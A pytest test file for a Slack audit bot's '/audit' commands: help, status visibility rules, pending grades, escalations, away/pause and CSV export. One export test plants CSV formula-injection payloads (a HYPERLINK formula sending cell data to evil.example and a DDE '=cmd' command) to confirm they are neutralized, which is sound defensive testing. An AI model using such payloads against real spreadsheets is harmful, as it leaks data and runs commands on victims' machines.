"""`/audit` status subcommands as people use them: signed slash commands, ephemeral answers
through response_url, the right content for the right person, refusals, the help."""

import csv
import io
import time
from datetime import timedelta

import pytest
from sqlalchemy import event
from sqlmodel import Session, select

from bot.slack.commands import Usage, no_args
from bot.store.models import AuditThread, Grade, OutboxItem
from bot.store.models.people import AwayPeriod, TrainerPause
from handlers.slash import SUBCOMMANDS
from handlers.subcommand import Subcommand
from schedules.escalation_check import run_escalation_check
from tests.support.escalation_setup import audited_weeks
from tests.support.factories import (
    CLINICAL_CHANNEL,
    DOCTOR,
    LAWYER,
    LEAD,
    MANAGER,
    NURSE,
    OUTSIDER,
    TRAINER1,
    TRAINER2,
    week_of_records,
)
from tests.support.harness import RunningBot
from tests.support.status_support import ask, buttons, shown

WEEKS = [["pass", "major", "major", "pass", "minor"], ["major", "major", "pass", "pass", "minor"]]


@pytest.fixture
def team(bot: RunningBot) -> RunningBot:
    """Two graded weeks of TRAINER1 (clinical, poor), and TRAINER2's legal week ungraded."""
    audited_weeks(bot, WEEKS)
    bot.ingest(week_of_records(bot.ctx.clock.now(), trainer=TRAINER2, task_type="legal",
                               count=3))
    bot.run_audit()
    return bot


# --- help ---------------------------------------------------------------------------------

def test_the_help_lists_the_table_in_the_ack(bot: RunningBot):
    answer = bot.driver.slash_command(NURSE, "help").json()
    assert answer["response_type"] == "ephemeral"
    for subcommand in SUBCOMMANDS.values():
        for form in subcommand.usage.forms:
            assert f"`/audit {form}`" in answer["text"]
    assert "(managers)" in answer["text"]


def test_a_subcommand_added_to_the_table_appears_in_the_help(bot: RunningBot, monkeypatch):
    extra = Subcommand(Usage("glossary", ("glossary <word>",), "what a category means"),
                       no_args("glossary"), lambda call: call.answer("none yet"))
    assert "glossary" not in bot.driver.slash_command(NURSE, "help").json()["text"]
    monkeypatch.setitem(SUBCOMMANDS, "glossary", extra)
    assert "`/audit glossary <word>`" in bot.driver.slash_command(NURSE, "help").json()["text"]
    assert ask(bot, NURSE, "glossary").text == "none yet"


def test_the_table_holds_every_listeners_subcommands_and_the_help_last(bot: RunningBot):
    # The table is built in one place from what each listener module declares.
    names = list(SUBCOMMANDS)
    assert {"status", "pending", "export", "disputes"} <= set(names)
    assert names[-1] == "help"
    assert "`/audit disputes`" in bot.driver.slash_command(NURSE, "help").json()["text"]


@pytest.mark.parametrize(("text", "says"), [
    ("statsu", "I don't know `statsu`"),
    ("status #general", "I couldn't read `#general` as a person"),
    ("status <@U0TRAINER1> <@U0TRAINER2>", "takes at most one person"),
    ("pause", "needs one person"),
    ("away <@U0NURSE01> until soon", "I couldn't read `soon` as a date"),
    ("away <@U0NURSE01>", "Say who and until when"),
    ("pending now", "takes nothing after it"),
])
def test_what_is_not_understood_gets_the_help_with_the_reason(bot: RunningBot, text, says):
    response = bot.driver.slash_command(NURSE, text)
    assert response.elapsed < 3.0  # Slack's ack deadline
    answer = response.json()
    assert answer["response_type"] == "ephemeral"
    assert says in answer["text"] and "`/audit status`" in answer["text"]


# --- status ---------------------------------------------------------------------------------

def test_status_shows_each_task_type(team: RunningBot):
    # Who is on the lists is what the escalation check stored (it runs after each grade).
    run_escalation_check(team.ctx, now=team.ctx.clock.now())
    answer = ask(team, DOCTOR, "status")
    assert answer.source == "response_url"
    text = shown(answer)
    assert "Audit status · 2026-W48" in text
    assert "*Clinical NLP* · threshold 0.85" in text and "*Legal drafting*" in text
    assert "80% interval" in text  # two one-sided 90% bounds (the default)
    assert "Graded this week 5/5 · window 10/10" in text
    assert "Graded this week 0/3" in text and "Backlog 3" in text
    assert f"Escalated: <@{TRAINER1}>" in text
    assert text.count("reviewer agreement –") == 2  # no double reviews yet, so no alpha
    assert "failed for good" not in text
    assert len(answer.blocks) <= 50


def test_a_trainer_s_status_names_no_peer_on_watch_or_escalated(team: RunningBot):
    """`/audit status @peer` is refused to a trainer, so `/audit status` names no peer
    either: the peer is an aggregate (a count); the people allowed still see the name."""
    audited_weeks(team, [["major"] * 5, ["major"] * 5])
    run_escalation_check(team.ctx, now=team.ctx.clock.now())
    team.deliver()
    assert f"⚠️ Escalated: <@{TRAINER1}>" in shown(ask(team, TRAINER1, "status"))  # themself
    for allowed in (NURSE, MANAGER):  # a clinical reviewer; a manager
        assert f"⚠️ Escalated: <@{TRAINER1}>" in shown(ask(team, allowed, "status"))
    assert TRAINER1 not in shown(ask(team, LAWYER, "status"))  # reviews legal only
    peer = shown(ask(team, TRAINER2, "status"))
    assert "⚠️ Escalated: 1 trainer" in peer and TRAINER1 not in peer, peer
    assert f"⚠️ Escalated: <@{TRAINER1}>" in shown(ask(team, LEAD, "status"))


def test_someone_not_in_the_config_is_refused(team: RunningBot):
    assert "ask <@U0MANAGER1>" in ask(team, OUTSIDER, "status").text


def test_managers_also_see_slack_writes_that_failed_for_good(team: RunningBot):
    with Session(team.ctx.engine) as session:
        session.add(OutboxItem(dedupe_key="x", kind="message", ref_id=0, channel="C0GONE",
                               status="failed", last_error="channel_not_found",
                               next_attempt_at=team.ctx.clock.now(),
                               created_at=team.ctx.clock.now()))
        session.commit()
    text = shown(ask(team, MANAGER, "status"))
    assert "1 Slack message failed for good" in text and "channel_not_found" in text
    assert "failed for good" not in shown(ask(team, NURSE, "status"))


@pytest.mark.parametrize("viewer", [TRAINER1, LEAD, MANAGER, NURSE])
def test_a_trainers_status_for_those_allowed(team: RunningBot, viewer: str):
    answer = ask(team, viewer, f"status <@{TRAINER1}|tara>")
    text = shown(answer)
    assert f"*<@{TRAINER1}>* · lead <@{LEAD}>" in text
    assert "*Clinical NLP*" in text and "vs threshold 0.85, 10 graded" in text
    assert "Weekly `" in text and "2026-W37–W48" in text
    assert "Worst recent samples" in text and "Unsafe advice" in text
    assert "https://sandbox.slack.test/archives/C0CLINICAL/" in text  # chat.getPermalink
    assert "Recurring: Unsafe advice ×" in text
    assert buttons(answer) == ["Show chart"]


@pytest.mark.parametrize("viewer", [TRAINER2, LAWYER, OUTSIDER])
def test_a_trainers_status_is_refused_to_others(team: RunningBot, viewer: str):
    answer = ask(team, viewer, f"status {TRAINER1}")
    assert f"Only <@{TRAINER1}>, their lead" in answer.text
    assert "Worst" not in shown(answer)


def test_show_chart_uploads_a_png_to_the_requesters_dm(team: RunningBot):
    answer = ask(team, LEAD, f"status <@{TRAINER1}>")
    response = team.driver.click(LEAD, answer, "Show chart", channel="C0GENERAL")
    assert response.status == 200 and response.elapsed < 3.0  # Slack's ack deadline
    [chart] = team.driver.wait_for(lambda: team.sandbox.files(LEAD), timeout=20)
    assert chart.is_png and chart.data.startswith(b"\x89PNG\r\n\x1a\n")
    assert chart.length == len(chart.data) and chart.completed
    assert chart.channels == [team.sandbox.dm_id(LEAD)]
    [message] = [m for m in team.sandbox.dms(LEAD) if m.files]
    assert message.files[0]["mimetype"] == "image/png" and f"<@{TRAINER1}>" in message.text
    methods = [c.method for c in team.sandbox.calls() if c.method.startswith("files.")]
    assert methods == ["files.getUploadURLExternal", "files.completeUploadExternal"]
    assert team.driver.wait_for(lambda: [e for e in team.sandbox.ephemerals(user=LEAD)
                                         if "chart is in your DM" in e.text])


def test_show_chart_is_refused_to_someone_who_may_not_see_the_trainer(team: RunningBot):
    answer = ask(team, MANAGER, f"status <@{TRAINER1}>")
    team.driver.click(OUTSIDER, answer, "Show chart", channel="C0GENERAL")
    assert team.driver.wait_for(lambda: [e for e in team.sandbox.ephemerals(user=OUTSIDER)
                                         if "Only <@" in e.text])
    assert team.sandbox.files() == []


# --- pending --------------------------------------------------------------------------------

def test_pending_lists_what_waits_for_the_caller_oldest_first_with_links(team: RunningBot):
    answer = ask(team, LAWYER, "pending")
    text = shown(answer)
    assert "*3 samples wait for your grade*, oldest first" in text
    positions = [text.index(f"sample {n} of 3") for n in (1, 2, 3)]
    assert positions == sorted(positions)
    assert text.count("https://sandbox.slack.test/archives/C0LEGAL/") == 3
    assert f"by <@{TRAINER2}>" in text
    assert "Nothing waits" in ask(team, NURSE, "pending").text  # clinical is all graded


def test_pending_for_someone_who_reviews_nothing(team: RunningBot):
    assert "You don't review any task type" in ask(team, LEAD, "pending").text


# --- escalations ----------------------------------------------------------------------------

def test_escalations_show_level_age_notified_and_acknowledged(team: RunningBot):
    audited_weeks(team, [["major"] * 5, ["major"] * 5])
    run_escalation_check(team.ctx, now=team.ctx.clock.now())
    team.deliver()
    assert f"⚠️ Escalated: <@{TRAINER1}>" in shown(ask(team, DOCTOR, "status"))
    team.ctx.clock.advance(timedelta(hours=2))
    text = shown(ask(team, LEAD, "escalations"))
    assert f"*<@{TRAINER1}>* · Clinical NLP — level 1 of 2 · open 2h" in text
    assert f"Notified: <@{LEAD}> (1)" in text and "Not acknowledged yet" in text
    [notice] = [m for m in team.sandbox.dms(LEAD) if "Quality escalation" in m.text]
    team.driver.click(MANAGER, notice, "Acknowledge", channel=notice.channel)
    team.driver.wait_for(lambda: "Acknowledged by" in shown(ask(team, MANAGER, "escalations")))
    assert f"Acknowledged by <@{MANAGER}>" in shown(ask(team, MANAGER, "escalations"))
    team.driver.click(LEAD, notice, "Resolve", channel=notice.channel)
    modal = team.driver.wait_for(lambda: team.driver.open_modal(LEAD))
    team.driver.submit_view(LEAD, modal, {"note": "Coached on renal dosing, re-audit."})
    closed = team.driver.wait_for(lambda: "Recently closed" in (
        t := shown(ask(team, LEAD, "escalations"))) and t)
    assert "No escalation is open" in closed
    assert f"resolved by <@{LEAD}>" in closed and "renal dosing" in closed


@pytest.mark.parametrize("viewer", [TRAINER2, NURSE, OUTSIDER])
def test_escalations_are_for_leads_those_notified_and_managers(team: RunningBot, viewer):
    assert "Escalations are for" in ask(team, viewer, "escalations").text


# --- away, pause, resume ------------------------------------------------------------------------

def _away(bot: RunningBot) -> dict[str, str]:
    with Session(bot.ctx.engine) as session:
        return {a.user: a.until.isoformat() for a in session.exec(select(AwayPeriod)).all()}


def test_away_by_the_person_their_lead_or_a_manager(bot: RunningBot):
    assert "You are away through 2026-12-24" in ask(bot, NURSE, "away until 2026-12-24").text
    said = ask(bot, LEAD, f"away <@{TRAINER1}|tara> until 2026-12-01").text
    assert f"<@{TRAINER1}> is away through 2026-12-01: no weekly audits" in said
    assert "Only the person themself" in ask(bot, TRAINER2, f"away {TRAINER1} until "
                                                            "2026-12-31").text
    assert "has passed" in ask(bot, MANAGER, f"away {DOCTOR} until 2026-11-01").text
    assert "not in auditbot's config" in ask(bot, MANAGER, f"away {OUTSIDER} until "
                                                           "2026-12-01").text
    assert _away(bot) == {NURSE: "2026-12-24", TRAINER1: "2026-12-01"}
    assert "back" in ask(bot, NURSE, "away back").text
    assert _away(bot) == {TRAINER1: "2026-12-01"}


def test_an_away_trainer_gets_no_audit_and_is_not_counted_missing(bot: RunningBot):
    bot.ingest(week_of_records(bot.ctx.clock.now(), count=6))
    ask(bot, LEAD, f"away <@{TRAINER1}> until 2026-11-30")
    summary = bot.run_audit()
    assert [r.outcome for r in summary.results if r.trainer == TRAINER1] == ["away"]
    assert bot.sandbox.messages(CLINICAL_CHANNEL) == []
    text = shown(ask(bot, MANAGER, "status"))
    assert "away 1" in text and "not audited 1" in text  # NURSE had nothing to audit


def test_pause_and_resume_are_for_managers(bot: RunningBot):
    bot.ingest(week_of_records(bot.ctx.clock.now(), count=6))
    assert "Only managers" in ask(bot, LEAD, f"pause <@{TRAINER1}>").text
    assert "Paused <@U0TRAINER1>'s audits" in ask(bot, MANAGER, f"pause <@{TRAINER1}>").text
    assert "already paused" in ask(bot, MANAGER, f"pause {TRAINER1}").text
    assert "not a trainer" in ask(bot, MANAGER, f"pause {LAWYER}").text
    assert [r.outcome for r in bot.run_audit().results if r.trainer == TRAINER1] == ["paused"]
    assert "paused 1" in shown(ask(bot, MANAGER, "status"))
    assert "Resumed" in ask(bot, MANAGER, f"resume <@{TRAINER1}>").text
    with Session(bot.ctx.engine) as session:
        assert [p.paused for p in session.exec(select(TrainerPause)).all()] == [False]
    assert [r.outcome for r in bot.run_audit().results if r.trainer == TRAINER1] == ["posted"]
    with Session(bot.ctx.engine) as session:
        assert len(session.exec(select(AuditThread)).all()) == 1


# --- export ---------------------------------------------------------------------------------

def test_export_sends_the_windows_grades_as_csv_to_the_managers_dm(team: RunningBot):
    answer = ask(team, MANAGER, "export")
    assert "The CSV (10 grades, 2026-W45 to 2026-W48) is in your DM" in answer.text
    [export] = team.sandbox.files(MANAGER)
    assert export.filename == "auditbot-grades-2026-W45-to-2026-W48.csv"
    assert export.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8"))))
    assert len(rows) == 10
    majors = [r for r in rows if r["grade"] == "major"]
    assert majors and all(r["category"] == "Unsafe advice" and "ibuprofen" in r["explanation"]
                          for r in majors)
    assert {r["trainer"] for r in rows} == {TRAINER1}
    assert "Only managers can export" in ask(team, LEAD, "export").text


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details on the dose error")'


def test_export_neutralizes_what_a_spreadsheet_would_run_as_a_formula(bot: RunningBot):
    records = week_of_records(bot.ctx.clock.now(), count=2)
    records[0]["id"] = "=cmd|' /C calc'!A0"
    bot.ingest(records)
    bot.run_audit()
    first, second = [r for r in bot.thread_replies(CLINICAL_CHANNEL)
                     if "Major error" in buttons(r)]
    bot.driver.click(NURSE, first, "Major error", channel=CLINICAL_CHANNEL)
    modal = bot.driver.wait_for(lambda: bot.driver.open_modal(NURSE))
    answer = bot.driver.submit_view(NURSE, modal, {"category": "Unsafe advice",
                                                   "explanation": FORMULA})
    assert answer.status == 200
    bot.driver.click(NURSE, second, "Pass", channel=CLINICAL_CHANNEL)

    def graded() -> bool:
        with Session(bot.ctx.engine) as session:
            return len(session.exec(select(Grade)).all()) == 2
    bot.driver.wait_for(graded)
    assert "(2 grades," in ask(bot, MANAGER, "export").text
    [export] = bot.sandbox.files(MANAGER)
    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8"), newline="")))
    assert sorted(r["explanation"] for r in rows) == ["", f"'{FORMULA}"]
    assert sorted(r["output_id"] for r in rows) == sorted(
        ["'=cmd|' /C calc'!A0", records[1]["id"]])
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- the 3-second rule ------------------------------------------------------------------------

@pytest.mark.parametrize("text", ["status", f"status <@{TRAINER1}>", "pending", "escalations"])
def test_the_ack_does_not_wait_for_a_slow_database(team: RunningBot, text: str):
    def slow_query(*_args: object) -> None:
        time.sleep(0.4)  # every statement: the answer now takes seconds

    before = len(team.sandbox.ephemerals(user=MANAGER))
    event.listen(team.ctx.engine, "before_cursor_execute", slow_query)
    try:
        response = team.driver.slash_command(MANAGER, text)
        assert response.status == 200 and response.elapsed < 3.0  # Slack's ack deadline
        answer = team.driver.wait_for(lambda: team.sandbox.ephemerals(user=MANAGER)[before:],
                                      timeout=60)
        assert answer[0].source == "response_url"
    finally:
        event.remove(team.ctx.engine, "before_cursor_execute", slow_query)
